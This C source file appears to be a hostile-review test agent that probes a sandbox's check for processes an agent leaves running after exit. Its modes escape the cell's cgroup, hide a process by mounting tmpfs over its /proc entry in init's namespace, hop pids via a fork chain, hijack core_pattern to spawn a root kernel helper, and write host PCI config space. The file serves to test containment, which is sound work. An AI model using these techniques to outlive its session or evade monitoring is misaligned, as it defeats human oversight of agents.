/*
 * ha74-agent: hostile review h-attack74, the guest's survivors check
 * (initramfs/guest/init escaped_procs, f22f52c). Run as a root agent under
 * a supervisor that contains nothing (tests/bundles/passthrough), each mode
 * leaves a process alive after the agent exits, outside the cell's cgroup,
 * shaped so the check skips it. Prints "ha74 ..." lines on stderr.
 *
 *   ha74-agent zleader CGROUP SECS  child moves to CGROUP, its main thread
 *                                   leaves by SYS_exit and a second thread
 *                                   lives SECS s: /proc/PID/stat says Z
 *   ha74-agent umh SECS             kernel.core_pattern names this program
 *                                   (mode helper); a child dumps core and
 *                                   the helper, kthreadd's child, lives SECS s
 *   ha74-agent helper SECS          (run by the kernel) lets the dumping
 *                                   process go, then sleeps SECS s
 *   ha74-agent cover CGROUP SECS    child moves to CGROUP, enters init's
 *                                   mount namespace (/proc/1/ns/mnt) and
 *                                   mounts a tmpfs over its own /proc/PID
 *   ha74-agent chain CGROUP SECS    child moves to CGROUP, then forks every
 *                                   5 ms and the parent exits: a different
 *                                   pid each time, for SECS s
 *   ha74-agent pciw                 (part 1) writes the vendor id of the
 *                                   first /proc/bus/pci device with the
 *                                   value it has (read-only in hardware)
 *   ha74-agent noop                 exits 0 (an honest cell after another)
 *   ha74-agent comm CGROUP SECS     control: child moves to CGROUP and names
 *                                   itself ") Z 2 " (the parse holds)
 */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static unsigned secs;

static int move_to(const char *cg)
{
	char path[512];
	int fd, rc;

	snprintf(path, sizeof(path), "%s/cgroup.procs", cg);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return -errno;
	rc = write(fd, "0", 1) == 1 ? 0 : -errno;
	close(fd);
	return rc;
}

static void *sleeper(void *arg)
{
	(void)arg;
	sleep(secs);
	fprintf(stderr, "ha74 zleader thread done\n");
	_exit(0);
}

/* The child escapes, then its leader exits alone: the thread group lives
 * on in the second thread while the leader's stat reads "Z". */
static int zleader(const char *cg)
{
	int p[2];
	pid_t pid;
	char c;

	if (pipe(p) != 0 || (pid = fork()) < 0)
		return 1;
	if (pid == 0) {
		pthread_t t;
		int rc = move_to(cg);

		fprintf(stderr, "ha74 zleader pid %d moved to %s: %s\n", (int)getpid(), cg,
			rc ? strerror(-rc) : "ok");
		if (pthread_create(&t, NULL, sleeper, NULL) != 0)
			_exit(1);
		if (write(p[1], "x", 1) != 1)
			_exit(1);
		syscall(SYS_exit, 0); /* this thread only */
	}
	close(p[1]);
	if (read(p[0], &c, 1) != 1)
		return 1;
	usleep(100000);
	return 0;
}

static int comm(const char *cg)
{
	int p[2];
	pid_t pid;
	char c;

	if (pipe(p) != 0 || (pid = fork()) < 0)
		return 1;
	if (pid == 0) {
		int rc = move_to(cg);

		prctl(PR_SET_NAME, ") Z 2 ", 0, 0, 0);
		fprintf(stderr, "ha74 comm pid %d moved: %s\n", (int)getpid(),
			rc ? strerror(-rc) : "ok");
		if (write(p[1], "x", 1) != 1)
			_exit(1);
		sleep(secs);
		_exit(0);
	}
	close(p[1]);
	return read(p[0], &c, 1) == 1 ? 0 : 1;
}

/* A root agent nothing contains may join init's mount namespace and hide
 * its /proc/PID directory there: the check's read of PID/cgroup fails
 * and it goes on to the next. */
static int cover(const char *cg)
{
	int p[2];
	pid_t pid;
	char c;

	if (pipe(p) != 0 || (pid = fork()) < 0)
		return 1;
	if (pid == 0) {
		char path[64];
		int rc = move_to(cg), ns = open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC), j, m;

		j = ns >= 0 && setns(ns, CLONE_NEWNS) == 0 ? 0 : errno;
		snprintf(path, sizeof(path), "/proc/%d", (int)getpid());
		m = j == 0 && mount("ha74", path, "tmpfs", MS_RDONLY, NULL) == 0 ? 0 : errno;
		fprintf(stderr, "ha74 cover pid %d moved: %s; setns: %s; tmpfs over %s: %s\n",
			(int)getpid(), rc ? strerror(-rc) : "ok", j ? strerror(j) : "ok", path,
			m ? strerror(m) : "ok");
		if (write(p[1], "x", 1) != 1)
			_exit(1);
		sleep(secs);
		_exit(0);
	}
	close(p[1]);
	return read(p[0], &c, 1) == 1 ? 0 : 1;
}

/* One /proc snapshot, read pid by pid, misses a process that keeps moving
 * to a new pid: each generation forks and leaves, its child's pid is past
 * the glob's list and its own is gone when the loop reads it. */
static int chain(const char *cg)
{
	int p[2];
	pid_t pid;
	char c;

	if (pipe(p) != 0 || (pid = fork()) < 0)
		return 1;
	if (pid == 0) {
		struct timespec t0, t;
		int rc = move_to(cg);

		fprintf(stderr, "ha74 chain pid %d moved: %s\n", (int)getpid(),
			rc ? strerror(-rc) : "ok");
		if (write(p[1], "x", 1) != 1)
			_exit(1);
		close(p[1]);
		clock_gettime(CLOCK_MONOTONIC, &t0);
		for (;;) {
			clock_gettime(CLOCK_MONOTONIC, &t);
			if (t.tv_sec - t0.tv_sec >= (time_t)secs)
				_exit(0);
			usleep(5000);
			pid = fork();
			if (pid != 0)
				_exit(0); /* the child goes on (or, fork failing, nobody) */
		}
	}
	close(p[1]);
	return read(p[0], &c, 1) == 1 ? 0 : 1;
}

/* /proc/bus/pci/BB/DD.F is root's, mode 0644, and proc_bus_pci_write
 * checks only lockdown: a root agent's own /proc (read-write, only
 * /proc/sys and sysrq-trigger bound read-only) reaches the config space of
 * the host's devices. The vendor id is written with its own value: a
 * register the hardware does not let change. */
static int pciw(void)
{
	const char *f = "/proc/bus/pci/00/00.0";
	unsigned char v[2];
	int fd = open(f, O_RDWR | O_CLOEXEC);
	ssize_t r, w;

	if (fd < 0) {
		fprintf(stderr, "ha74 pciw open %s O_RDWR: %s\n", f, strerror(errno));
		return 0;
	}
	r = pread(fd, v, 2, 0);
	w = r == 2 ? pwrite(fd, v, 2, 0) : -1;
	fprintf(stderr, "ha74 pciw %s vendor %02x%02x: read %zd, write %zd (%s)\n", f, v[1], v[0],
		r, w, w < 0 ? strerror(errno) : "written");
	close(fd);
	return 0;
}

/* The kernel runs core_pattern's pipe program as a usermode helper: a
 * child of kthreadd (pid 2), in the root cgroup, as full root. */
static int umh(const char *self)
{
	char old[256] = "", pattern[300];
	int fd;
	ssize_t n;
	pid_t pid;
	int st;

	fd = open("/proc/sys/kernel/core_pattern", O_RDWR | O_CLOEXEC);
	if (fd < 0) {
		fprintf(stderr, "ha74 umh core_pattern: %s\n", strerror(errno));
		return 0;
	}
	n = read(fd, old, sizeof(old) - 1);
	old[n > 0 ? n : 0] = 0;
	snprintf(pattern, sizeof(pattern), "|%s helper %u", self, secs);
	if (pwrite(fd, pattern, strlen(pattern), 0) < 0) {
		fprintf(stderr, "ha74 umh core_pattern write: %s\n", strerror(errno));
		close(fd);
		return 0;
	}
	fprintf(stderr, "ha74 umh core_pattern set: %s\n", pattern);
	if ((pid = fork()) == 0) {
		prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
		signal(SIGSEGV, SIG_DFL);
		raise(SIGSEGV);
		_exit(0);
	}
	waitpid(pid, &st, 0);
	fprintf(stderr, "ha74 umh child status %#x (core %d)\n", st, WCOREDUMP(st) ? 1 : 0);
	if (pwrite(fd, old, strlen(old), 0) < 0)
		fprintf(stderr, "ha74 umh restore: %s\n", strerror(errno));
	close(fd);
	return 0;
}

static int helper(void)
{
	char buf[4096];
	int fd;

	/* Drain and close the core pipe: the dumping process goes on. */
	while (read(0, buf, sizeof(buf)) > 0)
		;
	fd = open("/dev/null", O_RDWR);
	dup2(fd, 0);
	dup2(fd, 1);
	dup2(fd, 2);
	fd = open("/dev/kmsg", O_WRONLY);
	if (fd >= 0) {
		dprintf(fd, "ha74 helper pid %d ppid %d alive for %u s\n", (int)getpid(),
			(int)getppid(), secs);
		close(fd);
	}
	sleep(secs);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc >= 3 && strcmp(argv[1], "zleader") == 0 && argc == 4) {
		secs = (unsigned)atoi(argv[3]);
		return zleader(argv[2]);
	}
	if (argc == 4 && strcmp(argv[1], "cover") == 0) {
		secs = (unsigned)atoi(argv[3]);
		return cover(argv[2]);
	}
	if (argc == 2 && strcmp(argv[1], "pciw") == 0)
		return pciw();
	if (argc == 2 && strcmp(argv[1], "noop") == 0)
		return 0;
	if (argc == 4 && strcmp(argv[1], "chain") == 0) {
		secs = (unsigned)atoi(argv[3]);
		return chain(argv[2]);
	}
	if (argc == 4 && strcmp(argv[1], "comm") == 0) {
		secs = (unsigned)atoi(argv[3]);
		return comm(argv[2]);
	}
	if (argc == 3 && strcmp(argv[1], "umh") == 0) {
		secs = (unsigned)atoi(argv[2]);
		return umh(argv[0]);
	}
	if (argc == 3 && strcmp(argv[1], "helper") == 0) {
		secs = (unsigned)atoi(argv[2]);
		return helper();
	}
	fprintf(stderr, "usage: ha74-agent zleader|cover|chain|comm CGROUP SECS | umh SECS\n");
	return 2;
}
